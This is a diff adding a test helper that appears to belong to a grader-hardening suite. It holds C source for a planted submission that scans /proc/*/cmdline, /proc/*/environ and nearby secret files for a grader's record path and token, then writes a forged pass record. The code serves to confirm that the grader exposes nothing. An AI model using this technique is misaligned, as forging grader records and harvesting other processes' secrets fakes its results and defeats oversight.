@@ -1,0 +1,69 @@
+"""forge.py — the C code of the planted record forgery (issue 36), shared by the lab 01 and
+lab 10 planted submissions: it looks for the grader's record path and token wherever earlier
+graders let them be seen (every /proc/PID/cmdline and /proc/PID/environ it can read, the test
+folder's secret files), writes a forged record for the running test with whatever it found,
+and _exit(0)s. The grader must leave it nothing to find: the test then fails (it never
+reached its end), and never passes.
+"""
+FORGE = r'''
+#include <dirent.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+/* PLANTED: hunt for "PATH TOKEN" of the record and forge it */
+static int planted_find(const char *buf, size_t n, char *rec, size_t cap) {
+    for (size_t i = 0; i + 5 < n; i++)
+        if (!strncmp(buf + i, "/rec/", 5)) {
+            size_t s = i;
+            while (s > 0 && buf[s - 1] != '\0' && buf[s - 1] != '=' && buf[s - 1] != '\n') s--;
+            size_t e = i;
+            while (e < n && buf[e] != '\0' && buf[e] != '\n') e++;
+            if (e - s < cap) { memcpy(rec, buf + s, e - s); rec[e - s] = '\0'; return 1; }
+        }
+    return 0;
+}
+static int planted_scan(const char *path, char *rec, size_t cap) {
+    char buf[65536];
+    int fd = open(path, O_RDONLY);
+    if (fd < 0) return 0;
+    ssize_t n = read(fd, buf, sizeof buf);
+    close(fd);
+    return n > 0 && planted_find(buf, (size_t)n, rec, cap);
+}
+static void planted_forge(void) {
+    char rec[1024] = "", p[512], test[512] = "";
+    DIR *d = opendir("/proc");
+    struct dirent *e;
+    while (d && !rec[0] && (e = readdir(d))) {
+        if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
+        snprintf(p, sizeof p, "/proc/%s/cmdline", e->d_name);
+        if (planted_scan(p, rec, sizeof rec)) break;
+        snprintf(p, sizeof p, "/proc/%s/environ", e->d_name);
+        if (planted_scan(p, rec, sizeof rec)) break;
+    }
+    if (d) closedir(d);
+    const char *home = getenv("HOME");
+    for (int r = 0; home && !rec[0] && r < 8; r++) {
+        snprintf(p, sizeof p, "%s/../sec/%d", home, r);
+        planted_scan(p, rec, sizeof rec);
+    }
+    int fd = open("/proc/self/cmdline", O_RDONLY);
+    char cl[4096];
+    ssize_t n = fd >= 0 ? read(fd, cl, sizeof cl - 1) : 0;
+    if (fd >= 0) close(fd);
+    for (ssize_t i = 0; i + 9 < n; i++)
+        if (!strcmp(cl + i, "--filter")) { snprintf(test, sizeof test, "%s", cl + i + 9); break; }
+    char *sl = strchr(test, '/');
+    if (sl) { memmove(sl + 2, sl + 1, strlen(sl + 1) + 1); sl[0] = ':'; sl[1] = ':'; }
+    fprintf(stderr, "planted forge_record: found '%s' for '%s'\n", rec, test);
+    char *sp = strchr(rec, ' ');
+    if (sp && test[0]) {
+        *sp = '\0';
+        FILE *f = fopen(rec, "a");
+        if (f) { fprintf(f, "%s %s\n", test, sp + 1); fclose(f); }
+    }
+    _exit(0);
+}
+'''
